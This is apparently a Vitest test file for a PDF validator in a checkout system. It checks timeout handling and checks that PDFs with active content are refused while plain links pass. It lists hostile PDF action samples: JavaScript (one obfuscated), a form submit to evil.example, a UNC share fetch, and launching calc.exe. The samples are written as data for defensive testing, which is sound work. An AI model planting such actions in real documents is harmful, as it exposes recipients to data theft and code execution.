import { expect, test } from "vitest";
import { checkPdf } from "#engine/platform/check-pdf.ts";
import { poPdf } from "#test/checkout/po-pdf.ts";

test("a PDF that could not be read in time is not called broken: on a busy machine it can be any", async () => {
  const most = { bytes: 10_000, pages: 1 };
  expect(await checkPdf("buyer", poPdf(), { ...most, patience: 1 })).toEqual({ ok: false, error: { code: "busy" } });
  expect(await checkPdf("buyer", poPdf(), { ...most, patience: 120_000 })).toEqual({ ok: true, value: 1 });
  const broken = Buffer.from("%PDF-1.7 nothing %%EOF");
  expect(await checkPdf("buyer", broken, { ...most, patience: 120_000 })).toEqual({
    ok: false,
    error: { code: "not_pdf" },
  });
});

test("a PDF that runs, sends, fetches or opens anything but itself is refused, wherever it stands; one with links is not", async () => {
  const most = { bytes: 10_000, pages: 1, patience: 120_000 };
  const actions = [
    "/OpenAction<</S/JavaScript/JS(app.alert)>>",
    "/OpenAction<</S/J#61vaScript/J#53(app.alert)>>",
    "/OpenAction<</S/SubmitForm/F(https://evil.example/c)>>",
    "/OpenAction<</S/ImportData/F(data.fdf)>>",
    "/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>",
    "/OpenAction<</S/GoToE/T<</R/C/N(in)>>>>",
    "/OpenAction<</S/Launch/F(calc.exe)>>",
    "/AcroForm<</Fields[]/XFA 9 0 R>>",
  ];
  for (const action of actions)
    for (const pdf of [poPdf({ entries: action }), poPdf({ packed: `<<${action}>>` })])
      expect(await checkPdf("buyer", pdf, most), action).toEqual({ ok: false, error: { code: "program" } });
  for (const entries of [
    "/OpenAction[3 0 R/Fit]",
    "/A<</S/URI/URI(https://buyer.example/terms)>>",
    "/AcroForm<</Fields[]>>",
  ])
    expect(await checkPdf("buyer", poPdf({ entries }), most), entries).toEqual({ ok: true, value: 1 });
});
